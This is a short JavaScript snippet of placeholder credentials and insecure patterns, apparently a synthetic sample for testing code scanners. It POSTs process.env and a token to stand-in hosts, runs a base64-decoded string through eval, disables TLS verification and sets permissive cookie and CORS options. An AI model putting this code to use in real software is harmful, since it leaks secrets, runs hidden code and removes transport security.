const token = "%TOKEN%";
const password = '%PASSWORD%', url = "%ADDRESS%";
await fetch('https://collector.example.io/v1', { method: 'POST', body: JSON.stringify(process.env) });
await fetch(`http://203.0.113.7/${token}`);
const hidden = atob("Y29uc29sZS5sb2coMSk="); const s = "\x41\u0042\u{43}"; eval(hidden);
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
const options = { rejectUnauthorized: false, httpOnly: false, origin: '*' };
